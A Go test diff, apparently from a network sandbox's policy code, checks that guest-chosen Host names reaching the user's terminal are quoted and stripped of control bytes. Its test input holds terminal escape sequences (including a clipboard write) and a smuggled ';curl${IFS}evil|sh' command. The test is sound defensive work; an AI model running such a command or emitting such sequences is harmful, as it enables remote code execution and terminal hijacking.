@@ -633,3 +633,21 @@ func FuzzQuery(f *testing.F) {
 		}
 	})
 }
+
+// A server name or Host the guest chose reaches the user's terminal quoted
+// if it is no plain name, and is never offered as a rule to copy.
+func TestNoticesQuoteGuestNames(t *testing.T) {
+	var out syncBuf
+	p, _ := newPolicy(t, Config{Notices: &out}, "allow good.example:80")
+	resolve(t, p, "good.example", dns.TypeA, "A 198.51.100.7")
+	d := p.Decide(TCP, ap("198.51.100.7:80"), ap("198.51.100.7:80"), false)
+	hostile := "x\x1b]52;c;ZXZpbA==\a\x1b[2K\r;curl${IFS}evil|sh"
+	p.Inspect(&d, []byte("GET / HTTP/1.1\r\nHost: "+hostile+"\r\n\r\n"), false)
+	got := out.String()
+	if d.Allowed || got == "" {
+		t.Fatalf("allowed %v, notices %q", d.Allowed, got)
+	}
+	if strings.ContainsAny(got, "\x1b\a\r") || strings.Contains(got, "--allow x") {
+		t.Errorf("the notice carries the guest's bytes as they are: %q", got)
+	}
+}
